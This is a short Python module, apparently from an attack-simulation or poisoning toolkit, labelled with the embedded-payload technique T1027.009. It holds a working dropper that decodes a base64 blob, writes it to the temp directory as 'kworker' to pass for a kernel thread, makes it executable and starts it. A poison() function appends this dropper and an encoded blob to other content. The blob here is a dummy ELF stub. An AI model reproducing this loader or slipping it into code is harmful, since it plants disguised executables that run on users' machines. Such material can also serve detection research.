# SPDX-License-Identifier: Apache-2.0
"""Carries a program as text, writes it to /tmp and starts it."""
import base64

ATTACK = "T1027.009"
LANGUAGE = "python"
CODE = """\
import base64
import os
import tempfile


def _start():
    path = os.path.join(tempfile.gettempdir(), "kworker")
    with open(path, "wb") as out:
        out.write(base64.b64decode(_blob))
    os.chmod(path, 0o755)
    os.spawnl(os.P_NOWAIT, path, "kworker")


_start()
"""


def poison(layer):
    text = base64.b64encode(b"\x7fELF" + bytes(range(256)) * 8).decode()
    layer.append(f"_blob = '{text}'\n" + CODE)
